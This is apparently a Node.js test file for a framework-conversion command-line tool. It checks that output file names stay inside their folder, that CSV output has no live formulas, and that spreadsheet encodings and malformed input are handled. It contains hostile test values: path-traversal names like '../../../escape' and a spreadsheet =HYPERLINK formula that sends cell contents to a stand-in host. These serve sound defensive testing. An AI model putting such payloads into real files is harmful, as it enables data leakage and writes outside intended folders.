// The command line against hostile and broken input: file names from data never leave the
// folder given, CSV output carries no live formula, spreadsheet encodings are read (and named),
// and input that would lose most of itself is an error, not a warning.
import { test, describe, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';

const root = fileURLToPath(new URL('../../', import.meta.url));
const bin = join(root, 'bin/ksb-elements.mjs');
const run = (args, cwd = root) => {
  const r = spawnSync(process.execPath, [bin, ...args], { cwd, encoding: 'utf8' });
  return { code: r.status, out: r.stdout, err: r.stderr };
};
const standard = JSON.parse(readFileSync(join(root, 'test/fixtures/importers/ifate/ifate-api-2020-lars425-st0568-psychological-wellbeing-practitioner.json'), 'utf8'));

let tmp;
before(() => {
  tmp = mkdtempSync(join(tmpdir(), 'ksb-hardening-'));
});
after(() => rmSync(tmp, { recursive: true, force: true }));

describe('convert --out-dir keeps every file inside the folder', () => {
  test('a referenceNumber of ../../../escape, an absolute path, a Windows name and a duplicate stay inside', () => {
    const work = join(tmp, 'a', 'b', 'c');
    mkdirSync(work, { recursive: true });
    const hostile = ['../../../escape', '/etc/passwd-like', 'C:\\\\Windows\\\\evil', 'NUL', 'ST0568', 'st0568'].map((ref) => ({ ...standard, referenceNumber: ref }));
    writeFileSync(join(work, 'list.json'), JSON.stringify(hostile));
    const r = run(['convert', '--from', 'ifate', '--out-dir', 'out', 'list.json'], work);
    assert.equal(r.code, 0, r.err);
    assert.equal(existsSync(join(tmp, 'escape.json')), false, 'escape.json was written above the folder');
    assert.equal(existsSync(join(work, '..', '..', '..', 'escape.json')), false);
    const written = readdirSync(join(work, 'out')).sort();
    assert.equal(written.length, hostile.length, written.join(', '));
    for (const name of written) assert.match(name, /^[^/\\]+\.json$/);
    assert.match(r.err, /note: written as .*escape\.json \(file names stay inside out\)/);
  });
});

describe('CSV output carries no live formula', () => {
  test('statements beginning with =, @, + or - are written as text and read back as they were', () => {
    const fw = {
      format: 'ksb-framework/1',
      id: 'formulas',
      version: '1',
      title: 'Formulas',
      items: [
        { id: 'K1', code: 'K1', type: 'knowledge', statement: '=HYPERLINK("http://x.example/?"&A1,"click")' },
        { id: 'K2', code: 'K2', type: 'knowledge', statement: '@SUM(A1)' },
        { id: 'K3', code: 'K3', type: 'knowledge', statement: '-1+2' },
      ],
    };
    writeFileSync(join(tmp, 'formulas.json'), JSON.stringify(fw));
    const r = run(['convert', '--to', 'csv', '-o', join(tmp, 'formulas.csv'), join(tmp, 'formulas.json')]);
    assert.equal(r.code, 0, r.err);
    const csv = readFileSync(join(tmp, 'formulas.csv'), 'utf8');
    for (const line of csv.split(/\r?\n/)) {
      for (const cell of line.split(',')) assert.doesNotMatch(cell, /^"?[=+\-@]/, `a live formula: ${line}`);
    }
    const back = run(['convert', join(tmp, 'formulas.csv')]);
    assert.equal(back.code, 0, back.err);
    assert.deepEqual(JSON.parse(back.out).items.map((i) => i.statement), fw.items.map((i) => i.statement));
  });
});

describe('spreadsheet encodings', () => {
  const sheet = 'code,type,statement\r\nK1,knowledge,café crème\r\n';
  test('Windows-1252 (Excel "CSV" on Windows) is read with its accents, and the encoding is named', () => {
    const bytes = Buffer.from(sheet, 'latin1');
    writeFileSync(join(tmp, 'cp1252.csv'), bytes);
    const r = run(['convert', '--id', 'enc', '--title', 'Enc', join(tmp, 'cp1252.csv')]);
    assert.equal(r.code, 0, r.err);
    assert.equal(JSON.parse(r.out).items[0].statement, 'café crème');
    assert.match(r.err, /read as Windows-1252/);
    assert.doesNotMatch(r.out, /\uFFFD/);
  });

  test('UTF-16 LE with a byte order mark (Excel "Unicode text") is read as text, and named', () => {
    const bytes = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(sheet.replace(/,/g, '\t'), 'utf16le')]);
    writeFileSync(join(tmp, 'utf16.csv'), bytes);
    const r = run(['convert', '--from', 'csv', '--id', 'enc', '--title', 'Enc', join(tmp, 'utf16.csv')]);
    assert.equal(r.code, 0, r.err);
    const fw = JSON.parse(r.out);
    assert.deepEqual(fw.items.map((i) => [i.code, i.type, i.statement]), [['K1', 'knowledge', 'café crème']]);
    assert.match(r.err, /read as UTF-16LE/);
  });
});

describe('input that would lose most of itself is an error', () => {
  test('a CSV whose quote never closes: exit 1, nothing written, the row named', () => {
    writeFileSync(join(tmp, 'open-quote.csv'), 'code,type,statement\r\nK1,knowledge,"never closed\r\nK2,knowledge,second\r\nK3,knowledge,third\r\n');
    const out = join(tmp, 'open-quote.json');
    const r = run(['convert', '--id', 'q', '--title', 'Q', '-o', out, join(tmp, 'open-quote.csv')]);
    assert.equal(r.code, 1);
    assert.equal(existsSync(out), false);
    assert.match(r.err, /error +\$\.rows\[2\] +A quote opened in row 2 is never closed/);
  });

  test('a CASE package with no CFItems: exit 1, nothing written', () => {
    const pkg = { CFDocument: { identifier: 'd1', uri: 'urn:x', creator: 'x', title: 'Empty', lastChangeDateTime: '2026-01-01T00:00:00Z' }, CFItems: [], CFAssociations: [] };
    writeFileSync(join(tmp, 'empty-case.json'), JSON.stringify(pkg));
    const r = run(['convert', '--from', 'case', join(tmp, 'empty-case.json')]);
    assert.equal(r.code, 1);
    assert.equal(r.out, '');
    assert.match(r.err, /no usable CFItems/);
  });
});
